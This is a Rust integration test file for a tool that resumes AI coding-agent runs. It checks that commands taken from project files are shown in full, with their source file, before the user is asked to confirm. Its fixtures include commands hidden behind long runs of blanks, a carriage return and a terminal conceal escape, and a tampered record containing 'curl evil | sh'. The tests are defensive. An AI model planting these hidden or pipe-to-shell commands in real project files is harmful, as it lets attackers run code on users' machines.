//! Every command that will run is shown before anybody is asked, whole, and with the file it is from.

use anyhow::{Context as _, Result, ensure};
use rekindle_testkit::agent_memory::Run;
use rekindle_testkit::repository::{Project, WRITE, run_words, text};
use rekindle_testkit::sandbox::Sandbox;
use serde_json::Value;

use crate::BINARY;

/// A check that hides its second half behind blanks, a carriage return and an escape.
fn hidden() -> String {
    format!("true{};\r touch stolen \u{1b}[8m", " ".repeat(500))
}

/// The same as it is shown.
const SHOWN: &str = r"true [500 blanks] ;\r touch stolen \u{1b}[8m";

#[test]
fn the_checks_of_a_cloned_run_are_shown_before_the_question() -> Result<()> {
    let sandbox = Sandbox::new(BINARY)?;
    Run::interrupted("20260119-0900-orders-api-k2l3").lay_out(&sandbox)?;
    let file = sandbox
        .project()
        .join(".agent-memory/runs/20260119-0900-orders-api-k2l3/task-graph.json");
    let mut graph: Value = serde_json::from_str(&fs_err::read_to_string(&file)?)?;
    let tasks = graph["tasks"].as_array_mut().context("tasks")?;
    for task in tasks {
        task["verification"] = serde_json::json!({"commands": ["make check", hidden()]});
    }
    fs_err::write(&file, graph.to_string())?;
    for words in [
        &["resume", "--agent-cmd", "false # my-agent"][..],
        &["resume", "--yes", "--agent-cmd", "false # my-agent"],
        &["-q", "resume", "--agent-cmd", "false # my-agent"],
        &["plan"],
    ] {
        let output = sandbox.run(words)?;
        let said = format!("{output}");
        ensure!(said.contains(SHOWN), "{words:?}: {said}");
        ensure!(said.contains("check: `make check` (for 2 tasks, from `.agent-memory/runs/20260119-0900-orders-api-k2l3/task-graph.json`, a file of the project)"), "{words:?}: {said}");
        if words[0] != "plan" {
            ensure!(said.contains("my-agent`\n"), "{words:?}: {said}");
        }
        if let (Some(shown), Some(asked)) = (said.find(SHOWN), said.find("[y/N]")) {
            ensure!(shown < asked, "{words:?}: {said}");
        }
    }
    let plan = sandbox.run(&["plan", "--json"])?;
    let plan: Value = serde_json::from_str(&plan.stdout())?;
    let commands = plan["commands"].as_array().context("commands")?;
    ensure!(
        commands
            .iter()
            .any(|command| command["command"] == hidden()),
        "{plan}"
    );
    ensure!(
        commands[0]["tasks"] == 2 && commands[0]["role"] == "check",
        "{plan}"
    );
    Ok(())
}

#[test]
fn the_checks_and_the_agent_of_a_run_are_shown_before_the_question() -> Result<()> {
    let project = Project::new(BINARY);
    let plan = r#"{"title":"T","tasks":[{"id":"A","verification":{"commands":["test -e A.txt"]}},{"id":"B","verification":{"commands":["test -e A.txt"]}}]}"#;
    fs_err::write(project.path().join("plan.json"), plan)?;
    let mut words = run_words("exit 3 # my-agent").to_vec();
    words.extend(["--verify", "make all", "--retries", "0"]);
    let in_question = [
        "agent       `exit 3 # my-agent`\n",
        "`make all` for 2 tasks\n",
        "`test -e A.txt` for 2 tasks (from `plan.json`, a file of the project)\n",
    ];
    let in_list = [
        "agent: `exit 3 # my-agent`\n",
        "check: `make all` (for 2 tasks)\n",
        "check: `test -e A.txt` (for 2 tasks, from `plan.json`, a file of the project)\n",
    ];
    for (is_asked, shown) in [(true, in_question), (false, in_list)] {
        words.retain(|word| !is_asked || *word != "--yes");
        if !is_asked {
            words.push("--yes");
        }
        let said = text(&project.rekindle(&words).stderr);
        for wanted in shown {
            ensure!(said.contains(wanted), "{wanted}: {said}");
        }
    }
    // What the record of the run brings along is shown when it is resumed, be it typed once or not.
    let run = fs_err::read_dir(project.path().join(".agent-memory/runs"))?;
    let run = run.last().context("a run")??.path();
    let settings = run.join("rekindle-run.json");
    let text_of = fs_err::read_to_string(&settings)?;
    fs_err::write(&settings, text_of.replace("make all", "curl evil | sh"))?;
    let said = text(&project.rekindle(&["resume", "--agent-cmd", WRITE]).stderr);
    ensure!(
        said.contains("`curl evil | sh` for 2 tasks (from `.agent-memory/"),
        "{said}"
    );
    ensure!(
        said.contains("rekindle-run.json`, a file of the project)"),
        "{said}"
    );
    Ok(())
}

#[test]
fn an_agent_of_the_projects_configuration_is_marked() -> Result<()> {
    let project = Project::new(BINARY);
    project.plan("A");
    fs_err::create_dir(project.path().join(".rekindle"))?;
    let padded = format!("true{}; touch stolen", " ".repeat(400));
    let config = format!(
        "[agent]\ndefault = \"mine\"\n[agents.mine]\ncommand = \"{padded}\"\n[run]\nverify = [\"make all\"]\n"
    );
    fs_err::write(project.path().join(".rekindle/config.toml"), config)?;
    let said = text(&project.rekindle(&["run", "plan.json"]).stderr);
    for wanted in [
        "agent       `true [400 blanks] ; touch stolen` (from `.rekindle/config.toml`, a file of the project)",
        "`make all` for 1 task (from `.rekindle/config.toml`, a file of the project)",
    ] {
        ensure!(said.contains(wanted), "{wanted}: {said}");
    }
    Ok(())
}
